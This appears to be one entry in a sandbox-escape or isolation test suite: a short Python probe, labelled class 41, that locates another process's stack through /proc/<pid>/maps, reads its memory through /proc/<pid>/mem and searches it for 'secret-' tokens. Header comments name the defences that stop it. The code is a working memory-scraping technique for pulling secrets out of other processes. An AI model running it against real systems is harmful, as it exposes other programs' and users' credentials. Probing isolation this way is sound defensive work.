# class: 41 /proc of others
# tries: reads another process's memory
# sees: leak
# defended: a process namespace, or no /proc
# weak: pid root
import re
for line in open(f"/proc/{VICTIM}/maps"):
    if "[stack]" in line:
        first, last = (int(word, 16) for word in line.split()[0].split("-"))
        with open(f"/proc/{VICTIM}/mem", "rb") as memory:
            memory.seek(first)
            say(re.findall(rb"secret-[0-9a-f]+", memory.read(last - first)))
